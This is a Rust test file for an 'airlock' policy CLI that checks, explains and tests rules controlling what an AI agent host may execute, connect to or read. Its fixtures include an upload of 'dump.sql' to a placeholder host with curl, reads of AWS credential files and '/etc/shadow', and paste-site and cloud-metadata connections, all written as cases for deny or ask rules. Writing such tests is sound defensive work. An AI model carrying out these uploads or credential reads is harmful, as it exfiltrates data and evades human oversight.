//! `policy check | explain | test` through the clap front end, on the example policy
//! and on small fixtures.
#![allow(clippy::unwrap_used, reason = "tests panic on failure")]

use std::path::{Path, PathBuf};
use std::process::ExitCode;

use airlock_policy::cli::{PolicyCommand, run_to};
use airlock_policy::{Decision, OutcomeKind, PolicyError};
use clap::Parser;

#[derive(Parser)]
struct Cli {
    #[command(subcommand)]
    cmd: PolicyCommand,
}

fn example(name: &str) -> String {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("examples")
        .join(name)
        .display()
        .to_string()
}

/// Parse `args` as `airlock policy ARGS` and run it; return (exit code, output).
fn run(args: &[&str]) -> Result<(ExitCode, String), PolicyError> {
    let cli = Cli::try_parse_from(std::iter::once("policy").chain(args.iter().copied()))
        .unwrap_or_else(|e| panic!("{args:?}: {e}"));
    let mut out = Vec::new();
    let code = run_to(cli.cmd, &mut out)?;
    Ok((code, String::from_utf8(out).unwrap()))
}

fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, text).unwrap();
    p
}

const HEADER: &str = "version = 1\n[defaults]\nexec = \"allow\"\nconnect = \"allow\"\nsend = \"allow\"\nopen = \"allow\"\n";

#[test]
fn example_policy_passes_its_cases() {
    let (code, out) = run(&[
        "test",
        &example("ai-agent-host.toml"),
        &example("ai-agent-host.cases.toml"),
    ])
    .unwrap();
    assert_eq!(code, ExitCode::SUCCESS, "{out}");
    assert!(out.contains("23 passed, 0 failed"), "{out}");
    assert!(!out.contains("FAIL"), "{out}");
}

#[test]
fn example_policy_checks_clean() {
    let (code, out) = run(&["check", &example("ai-agent-host.toml")]).unwrap();
    assert_eq!(code, ExitCode::SUCCESS, "{out}");
    assert!(out.contains("11 rules"), "{out}");
    assert!(!out.contains("warning:"), "{out}");
    assert!(out.contains("0 errors"), "{out}");
    assert!(!out.contains("error:"), "{out}");
}

#[test]
fn failing_cases_exit_1_with_location() {
    let dir = tempfile::tempdir().unwrap();
    let cases = write(
        dir.path(),
        "cases.toml",
        r#"
[[case]]
name = "right"
action = { class = "exec", binary = "/usr/bin/aws", argv = ["aws"] }
outcome = "ask"
rule = "export-tools"

[[case]]
name = "wrong"
action = { class = "open", path = "/etc/hosts" }
outcome = "deny"
rule = "credential-reads"
"#,
    );
    let (code, out) = run(&[
        "test",
        &example("ai-agent-host.toml"),
        cases.to_str().unwrap(),
    ])
    .unwrap();
    assert_eq!(code, ExitCode::from(1), "{out}");
    assert!(out.contains("ok    right"), "{out}");
    assert!(
        out.contains(&format!(
            "FAIL  wrong ({}:8:1): got outcome allow (expected deny), rule `default` (expected `credential-reads`)",
            cases.display()
        )),
        "{out}"
    );
    assert!(out.contains("1 passed, 1 failed"), "{out}");
    // A malformed cases file is an error (exit 2), with its location.
    let bad = write(
        dir.path(),
        "bad.toml",
        "[[case]]\nname = \"x\"\naction = { class = \"exec\", argv0 = \"x\" }\noutcome = \"allow\"\n",
    );
    let e = run(&[
        "test",
        &example("ai-agent-host.toml"),
        bad.to_str().unwrap(),
    ])
    .unwrap_err();
    assert_eq!(e.location().map(|l| l.line), Some(3), "{e}");
    assert!(e.to_string().contains("unknown field `argv0`"), "{e}");
}

#[test]
fn check_flags_unreachable_and_overlaps() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(
        dir.path(),
        "p.toml",
        &format!(
            r#"{HEADER}
[[rule]]
id = "all-aws"
binary = ["aws"]
outcome = "deny"

[[rule]]
id = "aws-root"
on = ["exec"]
binary = ["/usr/bin/aws"]
uid = [0]
outcome = "allow"

[[rule]]
id = "hosts"
host = ["*.example.com"]
outcome = "allow"

[[rule]]
id = "one-host"
host = ["api.example.com"]
port = [443]
outcome = "deny"

[[rule]]
id = "api-hosts"
host = ["api.*"]
outcome = "deny"

[[rule]]
id = "by-user"
user = ["agent-*"]
outcome = "deny"

[[rule]]
id = "path-on-exec"
on = ["exec"]
path = ["/etc/shadow"]
outcome = "deny"

[[rule]]
id = "s3-exception"
binary = ["rclone"]
outcome = "allow"

[[rule]]
id = "rclone"
binary = ["rclone", "scp"]
outcome = "deny"
"#
        ),
    );
    let (code, out) = run(&["check", p.to_str().unwrap()]).unwrap();
    assert_eq!(code, ExitCode::from(1), "{out}");
    let file = p.display();
    // /usr/bin/aws has file name aws: covered by the earlier rule.
    assert!(
        out.contains(&format!(
            "{file}:13:1: error: rule `aws-root` is unreachable: rule `all-aws`"
        )),
        "{out}"
    );
    // api.example.com matches *.example.com, and port only narrows.
    assert!(
        out.contains("error: rule `one-host` is unreachable: rule `hosts`"),
        "{out}"
    );
    // api.* and *.example.com partly overlap (api.example.com) with different outcomes.
    assert!(
        out.contains("warning: rule `api-hosts` (deny) overlaps rule `hosts` (allow)"),
        "{out}"
    );
    // Rules on different fields are not compared.
    assert!(!out.contains("rule `by-user` (deny) overlaps"), "{out}");
    // A narrower exception before a general rule is the intended pattern: no lint.
    assert!(
        !out.contains("rule `rclone` (deny) overlaps rule `s3-exception`"),
        "{out}"
    );
    assert!(!out.contains("rule `rclone` is unreachable"), "{out}");
    assert!(
        out.contains("(all execs watched)"),
        "user-only deny rule watches all execs: {out}"
    );
    assert!(
        out.contains("error: rule `path-on-exec` can never match"),
        "{out}"
    );
    assert!(out.contains("3 errors"), "{out}");
}

#[test]
fn check_reports_load_errors() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(
        dir.path(),
        "p.toml",
        &format!("{HEADER}[[rule]]\nid = \"x\"\noutcome = \"deny\"\npath = [\"a[\"]\n"),
    );
    let e = run(&["check", p.to_str().unwrap()]).unwrap_err();
    assert!(
        e.to_string()
            .starts_with(&format!("{}:10:9: bad glob `a[`", p.display())),
        "{e}"
    );
    assert_eq!(airlock_policy::cli::exit_code(Err(e)), ExitCode::from(2));
}

#[test]
fn explain_from_flags() {
    let pol = example("ai-agent-host.toml");
    let (code, out) = run(&[
        "explain",
        &pol,
        "--exec",
        "/usr/local/bin/aws",
        "--user",
        "dev",
        "--",
        "s3",
        "cp",
        "f",
        "s3://acme-reports-q3/",
    ])
    .unwrap();
    assert_eq!(code, ExitCode::SUCCESS);
    assert!(out.contains("rule      export-tools ("), "{out}");
    assert!(out.contains("ai-agent-host.toml:"), "{out}");
    assert!(out.contains("outcome   ask (approvers platform-oncall x1, ttl 10m, on timeout Deny, grant up to 15m, reason required)"), "{out}");
    assert!(out.contains("effective ask"), "{out}");
    assert!(
        out.contains(r#""argv":["/usr/local/bin/aws","s3","cp","f","s3://acme-reports-q3/"]"#),
        "{out}"
    );

    let (_, out) = run(&["explain", &pol, "--connect", "pypi.org:443"]).unwrap();
    assert!(out.contains("rule      package-registries"), "{out}");
    assert!(out.contains("effective allow"), "{out}");

    let (_, out) = run(&["explain", &pol, "--connect", "pastebin.com:443"]).unwrap();
    assert!(
        out.contains("shadow    rule paste-sites would have: deny"),
        "{out}"
    );
    assert!(out.contains("rule      (default for connect)"), "{out}");
    assert!(out.contains("effective ask"), "{out}");

    let (_, out) = run(&[
        "explain",
        &pol,
        "--send",
        "52.216.1.10:443",
        "--url",
        "s3://acme-reports-q3/2026/q3.csv",
    ])
    .unwrap();
    assert!(out.contains("rule      company-buckets"), "{out}");

    let (_, out) = run(&["explain", &pol, "--connect", "[fd00:ec2::254]:80"]).unwrap();
    assert!(out.contains("rule      deny-cloud-metadata-v6"), "{out}");

    let (_, out) = run(&[
        "explain",
        &pol,
        "--open",
        "/home/dev/.aws/credentials",
        "--format",
        "json",
    ])
    .unwrap();
    let d: Decision = serde_json::from_str(&out).unwrap();
    assert_eq!(d.rule_id.as_deref(), Some("credential-reads"));
    assert_eq!(d.outcome.kind(), OutcomeKind::Ask);

    let e = run(&["explain", &pol, "--connect", "pypi.org"]).unwrap_err();
    assert!(matches!(e, PolicyError::BadAction(_)), "{e}");
}

#[test]
fn explain_from_json_matches_flags() {
    let dir = tempfile::tempdir().unwrap();
    let pol = example("ai-agent-host.toml");
    let action = write(
        dir.path(),
        "a.json",
        r#"{"class":"exec","binary":"/usr/bin/curl","argv":["curl","-T","dump.sql","https://x/"],"uid":1000,"parents":[{"pid":7,"binary":"/usr/bin/python3","comm":"python3"}]}"#,
    );
    let (_, json) = run(&[
        "explain",
        &pol,
        "--json",
        action.to_str().unwrap(),
        "--format",
        "json",
    ])
    .unwrap();
    let (_, flags) = run(&[
        "explain",
        &pol,
        "--exec",
        "/usr/bin/curl",
        "--format",
        "json",
        "--",
        "-T",
        "dump.sql",
        "https://x/",
    ])
    .unwrap();
    let (a, b): (Decision, Decision) = (
        serde_json::from_str(&json).unwrap(),
        serde_json::from_str(&flags).unwrap(),
    );
    assert_eq!(a, b);
    assert_eq!(a.rule_id.as_deref(), Some("curl-upload"));
    let bad = write(dir.path(), "b.json", r#"{"class":"exec","binry":"/x"}"#);
    let e = run(&["explain", &pol, "--json", bad.to_str().unwrap()]).unwrap_err();
    assert!(e.to_string().contains("unknown field `binry`"), "{e}");
}
